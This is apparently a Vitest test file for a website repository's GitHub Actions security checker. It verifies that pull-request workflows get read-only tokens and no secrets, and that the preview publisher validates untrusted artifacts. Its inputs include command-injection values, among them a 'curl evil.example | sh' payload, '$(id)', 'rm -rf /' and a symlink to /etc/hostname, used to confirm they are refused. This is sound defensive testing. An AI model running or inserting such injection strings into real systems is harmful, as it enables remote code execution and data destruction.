import { spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, expect, test } from 'vitest';
import { parse } from 'yaml';
import { actionsUsed, checkWorkflows, pullRequestProblems, secretsIn, triggers, versionProblems, writeGrants } from './check-workflows';

const dirs: string[] = [];
afterAll(() => dirs.forEach((dir) => rmSync(dir, { recursive: true, force: true })));

function workflows(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'workflows-'));
  dirs.push(dir);
  for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text);
  return dir;
}

const job = (steps: string) =>
  `name: t\non: pull_request\npermissions:\n  contents: read\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`;

// The project's own workflows are checked by `npm run workflows:check`, one of `npm test`'s quick
// checks (scripts/test.ts); they are not validated a second time here.

test('reports a misspelt key with its file and path', () => {
  const dir = workflows({ 'ok.yml': job('      - run: echo ok\n'), 'bad.yml': job('      - run: echo\n        shell-name: bash\n') });
  const problems = checkWorkflows(dir, dir);
  expect(problems.map((p) => p.file)).toEqual(['bad.yml']);
  expect(problems[0]!.message).toContain('/jobs/a');
}, 20_000);

test('names an action on an old major and one nobody looked up', () => {
  const text = job('      - uses: actions/checkout@v4\n      - uses: someone/else@v2\n      - uses: ./local\n');
  expect(actionsUsed(text)).toEqual(['actions/checkout@v4', 'someone/else@v2', './local']);
  expect(versionProblems('w.yml', text).map((p) => p.message)).toEqual([
    'actions/checkout@v4: use actions/checkout@v6, the current major version',
    'someone/else@v2: not in CURRENT_MAJORS of scripts/check-workflows.ts; look up its current major and add it',
  ]);
});

type Step = { name?: string; id?: string; uses?: string; run?: string; if?: string; env?: Record<string, string>; with?: Record<string, unknown> };
type Job = { if?: string; permissions?: unknown; steps: Step[] };
type Workflow = { name: string; on: Record<string, unknown>; permissions?: unknown; jobs: Record<string, Job> };
const workflow = (name: string) => parse(readFileSync(`.github/workflows/${name}`, 'utf8')) as Workflow;

/** A workflow triggered by pull_request with `top` before its jobs and one job `a` with `head` before its steps. */
const pr = (top: string, head = '', steps = '      - run: echo ok\n') =>
  `name: t\non: pull_request\n${top}jobs:\n  a:\n    runs-on: ubuntu-latest\n${head}    steps:\n${steps}`;
const refusals = (text: string) => pullRequestProblems('w.yml', text).map((p) => p.message);

test('refuses a workflow triggered by pull_request_target, in any form of `on:`', () => {
  for (const on of ['pull_request_target', '[push, pull_request_target]', '\n  pull_request_target:\n    types: [opened]'])
    expect(refusals(`name: t\non: ${on}\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo\n`), on).toEqual([
      expect.stringMatching(/^triggered by pull_request_target/),
    ]);
});

test('refuses a token that may write in a workflow triggered by pull_request: at the workflow, at a job, or by default', () => {
  expect(refusals(pr('permissions:\n  contents: write\n'))).toEqual([
    expect.stringMatching(/^permissions: contents: write in a workflow triggered by pull_request/),
  ]);
  expect(refusals(pr('permissions: write-all\n'))).toEqual([expect.stringMatching(/^permissions: write-all/)]);
  expect(refusals(pr('permissions:\n  contents: read\n', '    permissions:\n      pull-requests: write\n'))).toEqual([
    expect.stringMatching(/^jobs\.a: permissions pull-requests: write/),
  ]);
  expect(refusals(pr('', '    permissions:\n      id-token: write\n      contents: read\n'))).toEqual([
    expect.stringMatching(/^jobs\.a: permissions id-token: write/),
  ]);
  // Omitted at both levels: the repository's default token, which may write.
  expect(refusals(pr(''))).toEqual([expect.stringMatching(/^jobs\.a: no permissions, so its token is the repository's default/)]);
  // Read, none, read-all or nothing at all, at either level, passes; so does a job that narrows a read-only workflow.
  for (const [top, head] of [
    ['permissions:\n  contents: read\n', ''],
    ['permissions: read-all\n', ''],
    ['permissions: {}\n', ''],
    ['', '    permissions:\n      contents: read\n      pull-requests: none\n'],
    ['permissions:\n  contents: read\n', '    permissions: {}\n'],
  ])
    expect(refusals(pr(top!, head)), `${top}${head}`).toEqual([]);
});

test('refuses any secret but GITHUB_TOKEN reaching a workflow triggered by pull_request, however it is named', () => {
  const ok = 'permissions:\n  contents: read\n';
  const step = (line: string) => pr(ok, '', `      - run: echo "$X"\n${line}`);
  expect(refusals(step('        env:\n          X: ${{ secrets.DEPLOY_KEY }}\n'))).toEqual([
    expect.stringMatching(/^jobs\.a: the secret DEPLOY_KEY reaches/),
  ]);
  expect(refusals(step("        env:\n          X: ${{ Secrets['npm_token'] }}\n"))).toEqual([expect.stringMatching(/the secret npm_token/)]);
  expect(refusals(pr(ok, '', '      - uses: actions/cache@v5\n        with:\n          token: ${{ secrets.CACHE_TOKEN }}\n'))).toEqual([
    expect.stringMatching(/the secret CACHE_TOKEN/),
  ]);
  expect(refusals(step('        env:\n          X: ${{ toJSON(secrets) }}\n'))).toEqual([expect.stringMatching(/the whole secrets context/)]);
  expect(refusals(step("        if: secrets.TOKEN != ''\n"))).toEqual([expect.stringMatching(/the secret TOKEN/)]);
  expect(refusals(pr(`${ok}env:\n  X: \${{ secrets.API_KEY }}\n`))).toEqual([expect.stringMatching(/^the workflow: the secret API_KEY/)]);
  const reusable = `name: t\non: pull_request\n${ok}jobs:\n  a:\n    uses: ./.github/workflows/b.yml\n    secrets: inherit\n`;
  expect(refusals(reusable)).toEqual([expect.stringMatching(/^jobs\.a: secrets: inherit/)]);
  // The run's own token, and text that only says "secrets", pass.
  expect(
    refusals(step('        env:\n          X: ${{ secrets.GITHUB_TOKEN }}\n          Y: ${{ github.token }}\n          Z: no secrets here\n')),
  ).toEqual([]);
  expect(secretsIn("github.event.secrets.x || vars.secrets || secrets.A && secrets [ 'B' ]")).toEqual(['A', 'B']);
});

test('leaves workflows not triggered by pull_request to their own rules: a workflow_run workflow may write and use secrets', () => {
  const text =
    'name: t\non:\n  workflow_run:\n    workflows: [x]\n    types: [completed]\npermissions:\n  pull-requests: write\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo\n        env:\n          K: ${{ secrets.KEY }}\n';
  expect(refusals(text)).toEqual([]);
  expect(triggers(parse(text))).toEqual(['workflow_run']);
  expect(writeGrants({ contents: 'read', 'pull-requests': 'write' })).toEqual(['pull-requests: write']);
});

test('the workflow check refuses a planted violation in a workflow file, beside the validator and the versions', () => {
  const dir = workflows({ 'ok.yml': pr('permissions:\n  contents: read\n'), 'bad.yml': pr('permissions:\n  contents: write\n') });
  const problems = checkWorkflows(dir, dir);
  expect(problems.map((p) => p.file)).toEqual(['bad.yml']);
  expect(problems[0]!.message).toMatch(/^permissions: contents: write/);
}, 20_000);

test('a pull request is built with a read-only token and published by a workflow_run workflow that never runs its code (docs/decisions/3310)', () => {
  const build = workflow('content-preview.yml');
  const publish = workflow('content-preview-publish.yml');
  expect(Object.keys(build.on)).toEqual(['pull_request']);
  expect(build.permissions).toEqual({ contents: 'read' });
  for (const job of Object.values(build.jobs)) expect(job.permissions).toBeUndefined();
  // Nothing in the build writes: the preview and the report leave it as the artifact the publishing workflow downloads.
  const buildSteps = Object.values(build.jobs).flatMap((job) => job.steps);
  expect(buildSteps.filter((step) => step.uses?.startsWith('actions/upload-artifact@')).map((step) => step.with?.name)).toEqual([
    'content-preview',
    'content-preview',
  ]);
  expect(buildSteps.some((step) => /JamesIves|sticky-pull-request-comment|pr-preview-action/.test(step.uses ?? ''))).toBe(false);

  expect(publish.on).toEqual({ workflow_run: { workflows: [build.name], types: ['completed'] } });
  const steps = publish.jobs.publish!.steps;
  expect(publish.jobs.publish!.if).toContain('github.event.workflow_run.head_repository.full_name == github.repository');
  // It never checks out or runs code of the pull request: no checkout, no npm, node or script from the artifact.
  expect(steps.some((step) => step.uses?.startsWith('actions/checkout@'))).toBe(false);
  for (const step of steps)
    expect(step.run ?? '', step.name).not.toMatch(/\b(npm|npx|node|tsx|bash|sh|source)\b|preview\/.*\.(sh|js|ts)\b|\. preview/);
  // Nothing is interpolated into a script: values reach the shell through the environment.
  for (const step of [...steps, ...buildSteps]) expect(step.run ?? '', step.name).not.toContain('${{');
  // The number is checked against GitHub's record of the run before anything is published.
  const check = steps.find((step) => step.id === 'pr');
  expect(check?.run).toMatch(/gh api "repos\/\$GITHUB_REPOSITORY\/pulls\/\$claimed"/);
  expect(check?.env).toMatchObject({ HEAD_SHA: '${{ github.event.workflow_run.head_sha }}' });
  for (const step of steps.filter((step) => step.uses?.startsWith('JamesIves/') || step.uses?.startsWith('marocchino/'))) {
    expect(JSON.stringify(step.with), step.name).toContain('steps.pr.outputs.number');
    // Each runs only once that check passed: on its outputs, or on those of a step that ran on them.
    expect(step.if, step.name).toMatch(/steps\.(pr\.outputs\.state|site\.outputs\.deploy)/);
  }
  // Both halves compute the preview's address with the same lines, which refuse the production origin.
  const where = (steps: Step[]) => steps.find((step) => step.name === 'Where the preview will live')!.run;
  expect(where(steps)).toBe(where(buildSteps));
  expect(where(steps)).toContain('if [ "$origin" = "$production" ]');
});

/** A step's outputs, as it wrote them to $GITHUB_OUTPUT (`name=value` lines). */
const outputsIn = (file: string): Record<string, string> =>
  Object.fromEntries(
    readFileSync(file, 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((line) => [line.slice(0, line.indexOf('=')), line.slice(line.indexOf('=') + 1)]),
  );

/** Runs the "Where the preview will live" step as GitHub runs a `run:` (bash -eo pipefail) and returns its exit code and outputs. */
function where(vars: Record<string, string>): { status: number | null; outputs: Record<string, string>; log: string } {
  const step = workflow('content-preview-publish.yml').jobs.publish!.steps.find((s) => s.name === 'Where the preview will live')!;
  const dir = mkdtempSync(join(tmpdir(), 'where-'));
  dirs.push(dir);
  const output = join(dir, 'output');
  writeFileSync(output, '');
  const run = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', step.run!], {
    encoding: 'utf8',
    env: {
      PATH: process.env.PATH,
      GITHUB_OUTPUT: output,
      GITHUB_REPOSITORY: 'IHub-Robotics/website',
      GITHUB_REPOSITORY_OWNER: 'IHub-Robotics',
      PR_NUMBER: '7',
      ...vars,
    },
  });
  const outputs = outputsIn(output);
  return { status: run.status, outputs, log: run.stdout + run.stderr };
}

test('the preview goes to its own origin, and the workflows refuse one that is, or shares, the production origin', () => {
  expect(where({ PREVIEW_REPOSITORY: 'ihub-previews/site' }).outputs).toEqual({
    repository: 'ihub-previews/site',
    folder: 'pr-7',
    'site-base': '/site/pr-7/',
    url: 'https://ihub-previews.github.io/site/pr-7/',
  });
  expect(where({ PREVIEW_REPOSITORY: 'ihub-previews/ihub-previews.github.io', PAGES_DOMAIN: 'www.ihubrobotics.com' }).outputs.url).toBe(
    'https://ihub-previews.github.io/pr-7/',
  );
  expect(
    where({ PREVIEW_REPOSITORY: 'IHub-Robotics/previews', PREVIEW_PAGES_DOMAIN: 'Previews.Example.org', PAGES_DOMAIN: 'www.ihubrobotics.com' })
      .outputs.url,
  ).toBe('https://previews.example.org/pr-7/');
  // Not configured: no preview, and no failure.
  expect(where({})).toMatchObject({ status: 0, outputs: {} });
  // The production origin itself, in any case, or the same owner's github.io (shared by its project sites, or its custom domain).
  const refused: Record<string, string>[] = [
    { PREVIEW_REPOSITORY: 'IHub-Robotics/previews', PREVIEW_PAGES_DOMAIN: 'WWW.ihubrobotics.com', PAGES_DOMAIN: 'www.ihubrobotics.com' },
    { PREVIEW_REPOSITORY: 'ihub-robotics/previews' },
    { PREVIEW_REPOSITORY: 'IHub-Robotics/previews', PAGES_DOMAIN: 'www.ihubrobotics.com' },
    { PREVIEW_REPOSITORY: 'someone/x', PREVIEW_PAGES_DOMAIN: 'ihub-robotics.github.io' },
  ];
  for (const vars of refused) {
    const result = where(vars);
    expect(result.status, JSON.stringify(vars)).toBe(1);
    expect(result.outputs, JSON.stringify(vars)).toEqual({});
    expect(result.log).toMatch(/::error::(Refused: previews at|Previews would share) /);
  }
  expect(where({ PREVIEW_REPOSITORY: 'a/b; rm -rf /' })).toMatchObject({ status: 1, outputs: {} });
});

/**
 * Runs the publishing workflow's "Which pull request" step in a folder holding an artifact
 * (`files`, under preview/), with a stand-in `gh` that answers GitHub's record of the pull
 * request (`record`: head commit, head repository, head branch, state) and logs what it was asked.
 */
function whichPullRequest(files: Record<string, string>, record: string, event: Record<string, string> = {}) {
  const step = workflow('content-preview-publish.yml').jobs.publish!.steps.find((s) => s.id === 'pr')!;
  const dir = mkdtempSync(join(tmpdir(), 'which-pr-'));
  dirs.push(dir);
  mkdirSync(join(dir, 'preview'));
  mkdirSync(join(dir, 'bin'));
  for (const [name, text] of Object.entries(files))
    if (text.startsWith('->')) symlinkSync(text.slice(2), join(dir, 'preview', name));
    else writeFileSync(join(dir, 'preview', name), text);
  writeFileSync(join(dir, 'bin', 'gh'), `#!/bin/sh\nprintf '%s\\n' "$*" >> "${join(dir, 'asked')}"\nprintf '%s\\n' "${record}"\n`);
  chmodSync(join(dir, 'bin', 'gh'), 0o755);
  writeFileSync(join(dir, 'output'), '');
  const run = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', step.run!], {
    cwd: dir,
    encoding: 'utf8',
    env: {
      PATH: `${join(dir, 'bin')}:${process.env.PATH}`,
      GITHUB_OUTPUT: join(dir, 'output'),
      GITHUB_REPOSITORY: 'ihub/website',
      HEAD_SHA: 'abc123',
      HEAD_BRANCH: 'copy/headline',
      EVENT_PR: '',
      ...event,
    },
  });
  const outputs = outputsIn(join(dir, 'output'));
  let asked = '';
  try {
    asked = readFileSync(join(dir, 'asked'), 'utf8');
  } catch {
    // gh was never asked
  }
  return { status: run.status, outputs, asked };
}

test('the publishing workflow believes the artifact’s pull-request number only when GitHub’s record of it names the commit, branch and repository the run built', () => {
  const ours = 'abc123 ihub/website copy/headline open';
  expect(whichPullRequest({ 'pull-request.txt': '7\n' }, ours)).toEqual({
    status: 0,
    outputs: { ok: 'true', number: '7', state: 'open' },
    asked: 'api repos/ihub/website/pulls/7 --jq [.head.sha, (.head.repo.full_name // "-"), .head.ref, .state] | join(" ")\n',
  });
  expect(whichPullRequest({ 'pull-request.txt': '7' }, 'abc123 ihub/website copy/headline closed').outputs).toEqual({
    ok: 'true',
    number: '7',
    state: 'closed',
  });
  // No number in the artifact: the event's, when GitHub gives one.
  expect(whichPullRequest({}, ours, { EVENT_PR: '7' }).outputs.number).toBe('7');
  // Another pull request's record (another commit, branch or repository): nothing is published, quietly.
  for (const record of ['fff999 ihub/website copy/headline open', 'abc123 someone/fork copy/headline open', 'abc123 ihub/website main open'])
    expect(whichPullRequest({ 'pull-request.txt': '8' }, record), record).toMatchObject({ status: 0, outputs: { ok: 'false' } });
  // Not a number, not the event's number, or a link out of the artifact: refused before GitHub is asked.
  for (const [files, event] of [
    [{ 'pull-request.txt': '7; curl evil.example | sh' }, {}],
    [{ 'pull-request.txt': '$(id)' }, {}],
    [{ 'pull-request.txt': '0' }, {}],
    [{ 'pull-request.txt': '8' }, { EVENT_PR: '7' }],
    [{ 'pull-request.txt': '->/etc/hostname' }, {}],
    [{}, {}],
  ] as [Record<string, string>, Record<string, string>][]) {
    const result = whichPullRequest(files, ours, event);
    expect(result, JSON.stringify(files)).toMatchObject({ status: 1, outputs: {}, asked: '' });
  }
});

test('main is published to the root of gh-pages after CI passes on a push, and the branch keeps nothing beside it (docs/decisions/2901, 3310)', () => {
  const deploy = workflow('deploy.yml');
  const ci = workflow('ci.yml');
  expect(deploy.on.workflow_run).toEqual({ workflows: [ci.name], types: ['completed'], branches: ['main'] });
  expect(deploy.jobs.deploy!.if).toContain("github.event.workflow_run.conclusion == 'success'");
  const publish = deploy.jobs.deploy!.steps.find((step) => step.uses?.startsWith('JamesIves/github-pages-deploy-action@'))!;
  expect(publish.with).toEqual({ folder: 'build/client', branch: 'gh-pages', clean: true, force: false });
  expect(deploy.jobs.deploy!.steps.some((step) => step.run?.includes('.nojekyll'))).toBe(true);
  // No other workflow publishes into this repository: previews go to their own (repository-name).
  for (const name of ['content-preview.yml', 'content-preview-publish.yml', 'ci.yml'])
    for (const job of Object.values(workflow(name).jobs))
      for (const step of job.steps.filter((step) => step.uses?.startsWith('JamesIves/')))
        expect(step.with?.['repository-name'], `${name}: ${step.name}`).toBe('${{ steps.where.outputs.repository }}');
});
